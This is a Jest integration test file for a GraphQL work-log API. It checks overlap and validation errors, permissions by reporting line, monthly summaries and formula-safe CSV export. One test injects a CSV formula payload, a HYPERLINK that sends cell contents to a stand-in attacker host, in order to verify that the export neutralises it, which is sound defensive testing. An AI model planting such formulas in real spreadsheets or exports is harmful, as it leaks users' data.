/**
 * Work logs through GraphQL against the real upstream: log, change and delete one's own entries; the refusals in
 * words (an overlap names the entry it meets, an end before the start); two racing overlapping entries where one
 * lands; the duplicate task question ("a duplicate task already in use") and its confirmation; who reads whose logs
 * (the person, managers up the line, CEO and HR; nobody else, a manager of another line included); the month's
 * summary per person and task and its CSV (formula-safe). Every call is an upstream extension: on a SPEC §7-only
 * upstream they answer NOT_FOUND and `capabilities.worklogs` is false.
 *
 * @spec GET /worklogs, POST /worklogs, PUT /worklogs/{id}, DELETE /worklogs/{id}, GET /worklogs/summary
 * @spec GET /worklogs/summary/export
 * @postgres worklogs
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { DemoKey } from '../../upstream/src/seed';
import { LogWorkDocument as LOG, UpdateWorklogDocument as UPDATE, DeleteWorklogDocument as DELETE } from '../../web/src/features/worklogs/worklogs.generated';
import { WorklogsDocument as LIST, WorklogSummaryDocument as SUMMARY } from '../../web/src/features/worklogs/worklogs.generated';
import { WorklogSummaryExportDocument as EXPORT } from '../../web/src/features/worklogs/worklogs.generated';
import type { WorklogInput } from '../../web/src/generated/graphql';
import { graphql } from '../generated';
import { demoPerson } from '../support/builders';
import { dataOf, download, gql, itFull, itSpec, loginAs, startStack, type Stack } from '../support/stack';
import { describeFull } from '../support/stack';

let stack: Stack;
const tokens = {} as Record<DemoKey, string>;
/** The demo agent's employee id (her line: team leader, ACM, head of operations, CEO). */
let agentId: string;

beforeAll(async () => {
  stack = await startStack();
  for (const key of ['agent', 'teamleader', 'acm', 'ceo', 'hr', 'auditor', 'coldhead'] as DemoKey[]) tokens[key] = await loginAs(stack, key);
  agentId = String((await demoPerson(stack, 'agent')).id);
});
afterAll(() => stack.close());

/** An entry of the agent's (fixed days of March 2026: nothing here depends on today). */
const entry = (workDate: string, startTime: string, endTime: string, jiraTask = 'HR-12', more: Partial<WorklogInput> = {}): WorklogInput => ({
  jiraTask,
  description: 'Payroll fixes',
  workDate,
  startTime,
  endTime,
  ...more,
});
const log = (input: WorklogInput, token = tokens.agent) => gql(stack, LOG, { input }, token);
const errorOf = (res: { errors?: readonly { message: string; extensions?: Record<string, unknown> }[] }) => res.errors?.[0];

describeFull('logging work', () => {
  it('logs an entry with its duration derived and the task key upper-cased', async () => {
    const res = await log(entry('2026-03-02', '09:00', '10:30', 'hr-12'));
    expect(dataOf(res).logWork).toMatchObject({ workDate: '2026-03-02', startTime: '09:00', endTime: '10:30', duration: 90, jiraTask: 'HR-12' });
    const list = dataOf(await gql(stack, LIST, { from: '2026-03-02', to: '2026-03-08' }, tokens.agent)).worklogs;
    expect(list.items.map((w) => [w.workDate, w.startTime, w.jiraTask])).toEqual([['2026-03-02', '09:00', 'HR-12']]);
  });

  it('refuses an overlapping entry in words naming the entry it meets; touching ends are fine', async () => {
    const clash = errorOf(await log(entry('2026-03-02', '10:00', '11:00', 'OPS-7')));
    expect(clash?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(clash?.message).toBe('This entry overlaps your work log HR-12 from 09:00 AM to 10:30 AM on 02/03/2026');
    expect((await log(entry('2026-03-02', '10:30', '11:00', 'OPS-7'))).errors).toBeUndefined();
  });

  it('refuses an end before (or at) the start, and a badly formed time or task', async () => {
    for (const [start, end] of [
      ['12:00', '11:00'],
      ['12:00', '12:00'],
    ]) {
      const err = errorOf(await log(entry('2026-03-03', start, end)));
      expect(err?.extensions?.code).toBe('BAD_USER_INPUT');
      expect(err?.message).toBe('End time must be after start time');
    }
    expect(errorOf(await log(entry('2026-03-03', '9am', '11:00')))?.message).toBe('Start time must be a time of day (HH:mm, 24-hour)');
    expect(errorOf(await log(entry('2026-03-03', '09:00', '11:00', 'payroll')))?.message).toBe('Task must be a task key like HR-12');
  });

  it('lets one of two racing overlapping entries land, never both', async () => {
    const results = await Promise.all([log(entry('2026-03-04', '09:00', '11:00', 'RACE-1')), log(entry('2026-03-04', '10:00', '12:00', 'RACE-2'))]);
    expect(results.filter((r) => !r.errors)).toHaveLength(1);
    expect(errorOf(results.find((r) => r.errors)!)?.message).toMatch(/^This entry overlaps your work log RACE-\d from/);
    expect(dataOf(await gql(stack, LIST, { from: '2026-03-04', to: '2026-03-04' }, tokens.agent)).worklogs.count).toBe(1);
  });

  it('asks "a duplicate task already in use" for a task already on another entry of the day, and saves once confirmed', async () => {
    const asked = errorOf(await log(entry('2026-03-02', '13:00', '14:00', 'HR-12')));
    expect(asked?.extensions?.code).toBe('CONFLICT');
    expect(asked?.extensions?.duplicateTask).toBe(true);
    expect(asked?.message).toBe('a duplicate task already in use');
    const saved = await log(entry('2026-03-02', '13:00', '14:00', 'HR-12', { confirmDuplicate: true }));
    expect(dataOf(saved).logWork.jiraTask).toBe('HR-12');
    // The same task on another day asks nothing; a confirmation never saves an overlap.
    expect((await log(entry('2026-03-05', '09:00', '10:00', 'HR-12'))).errors).toBeUndefined();
    expect(errorOf(await log(entry('2026-03-02', '13:30', '14:30', 'HR-12', { confirmDuplicate: true })))?.extensions?.code).toBe('BAD_USER_INPUT');
  });

  it("changes and deletes only one's own entries", async () => {
    const id = dataOf(await log(entry('2026-03-06', '08:00', '09:00', 'OPS-9'))).logWork.id;
    const changed = await gql(stack, UPDATE, { id, input: entry('2026-03-06', '08:00', '09:15', 'OPS-9', { description: 'Longer' }) }, tokens.agent);
    expect(dataOf(changed).updateWorklog).toMatchObject({ duration: 75, description: 'Longer' });
    // An update is checked against the person's other entries only (its own old range is no clash).
    expect((await gql(stack, UPDATE, { id, input: entry('2026-03-06', '08:30', '09:30', 'OPS-9') }, tokens.agent)).errors).toBeUndefined();
    for (const other of [tokens.teamleader, tokens.ceo]) {
      const err = errorOf(await gql(stack, UPDATE, { id, input: entry('2026-03-06', '08:00', '09:00', 'OPS-9') }, other));
      expect(err?.extensions?.code).toBe('FORBIDDEN');
      expect(err?.message).toBe('Only the person who logged the work can change or delete it');
      expect(errorOf(await gql(stack, DELETE, { id }, other))?.extensions?.code).toBe('FORBIDDEN');
    }
    expect(dataOf(await gql(stack, DELETE, { id }, tokens.agent)).deleteWorklog).toBe(true);
    expect(errorOf(await gql(stack, DELETE, { id }, tokens.agent))?.extensions?.code).toBe('NOT_FOUND');
  });
});

describeFull('who reads whose work logs', () => {
  const read = (token: string, employeeId: string) => gql(stack, LIST, { from: '2026-03-01', to: '2026-03-31', employeeId }, token);

  it.each(['teamleader', 'acm', 'ceo', 'hr'] as DemoKey[])("%s (the agent's line, or CEO/HR) reads the agent's logs", async (key) => {
    const res = await read(tokens[key], agentId);
    expect(res.errors).toBeUndefined();
    expect(dataOf(res).worklogs.items.every((w) => w.employeeId === agentId)).toBe(true);
    expect(dataOf(res).worklogs.count).toBeGreaterThan(0);
  });

  it.each(['auditor', 'coldhead'] as DemoKey[])("%s (outside the agent's line) is refused", async (key) => {
    const err = errorOf(await read(tokens[key], agentId));
    expect(err?.extensions?.code).toBe('FORBIDDEN');
    expect(err?.message).toBe('You can only see your own work logs and those of people who report to you');
  });

  it("refuses the agent her team leader's logs (a report never reads up the line)", async () => {
    const leader = String((await demoPerson(stack, 'teamleader')).id);
    expect(errorOf(await read(tokens.agent, leader))?.extensions?.code).toBe('FORBIDDEN');
    expect(errorOf(await gql(stack, SUMMARY, { month: '2026-03', employeeId: leader }, tokens.agent))?.extensions?.code).toBe('FORBIDDEN');
  });
});

describeFull('the monthly summary', () => {
  it('totals minutes per task for the person, and per person for a manager', async () => {
    const mine = dataOf(await gql(stack, SUMMARY, { month: '2026-03', employeeId: 'me' }, tokens.agent)).worklogSummary;
    const hr12 = mine.items.find((r) => r.jiraTask === 'HR-12');
    // HR-12: 09:00-10:30 and 13:00-14:00 on the 2nd, 09:00-10:00 on the 5th.
    expect(hr12).toMatchObject({ minutes: 90 + 60 + 60, entries: 3, employeeId: agentId });
    expect(mine.totalMinutes).toBe(mine.items.reduce((sum, r) => sum + r.minutes, 0));

    const team = dataOf(await gql(stack, SUMMARY, { month: '2026-03' }, tokens.teamleader)).worklogSummary;
    expect(team.items.filter((r) => r.employeeId === agentId)).toEqual(mine.items);
    const outside = dataOf(await gql(stack, SUMMARY, { month: '2026-03' }, tokens.auditor)).worklogSummary;
    expect(outside.items.some((r) => r.employeeId === agentId)).toBe(false);
    expect(errorOf(await gql(stack, SUMMARY, { month: 'March' }, tokens.agent))?.message).toBe('Month must be YYYY-MM');
  });

  it('exports the summary as CSV with every cell formula-safe', async () => {
    const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const RENAME = graphql(`
      mutation WorklogsRename($id: ID!, $input: HeadcountEmployeeInput!) {
        updateHeadcountEmployee(id: $id, input: $input) {
          id
        }
      }
    `);
    expect((await gql(stack, RENAME, { id: agentId, input: { name: HYPERLINK } }, tokens.hr)).errors).toBeUndefined();
    const link = dataOf(await gql(stack, EXPORT, { month: '2026-03', employeeId: agentId }, tokens.teamleader)).worklogSummaryExport;
    expect(link.filename).toBe('worklog_summary_2026-03.csv');
    const csv = await (await download(stack, link.url, tokens.teamleader)).text();
    expect(csv.split('\n')[0]).toBe('Employee,Task,Hours,Minutes,Entries');
    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",HR-12,3.50,210,3');
    expect(csv).not.toMatch(/^=|,=/m);
  });
});

describe('on either upstream', () => {
  const CAPABILITY = graphql(`
    query WorklogsCapability {
      capabilities {
        worklogs
      }
    }
  `);

  itFull('offers work logs on the full upstream', async () => {
    expect(dataOf(await gql(stack, CAPABILITY, {}, tokens.agent)).capabilities.worklogs).toBe(true);
  });

  itSpec('hides work logs on a SPEC §7-only upstream: the capability is false and the calls answer NOT_FOUND', async () => {
    expect(dataOf(await gql(stack, CAPABILITY, {}, tokens.agent)).capabilities.worklogs).toBe(false);
    expect(errorOf(await gql(stack, LIST, { from: '2026-03-01', to: '2026-03-07' }, tokens.agent))?.extensions?.code).toBe('NOT_FOUND');
    expect(errorOf(await gql(stack, SUMMARY, { month: '2026-03' }, tokens.agent))?.extensions?.code).toBe('NOT_FOUND');
    expect(errorOf(await log(entry('2026-03-02', '09:00', '10:00')))?.extensions?.code).toBe('NOT_FOUND');
  });
});
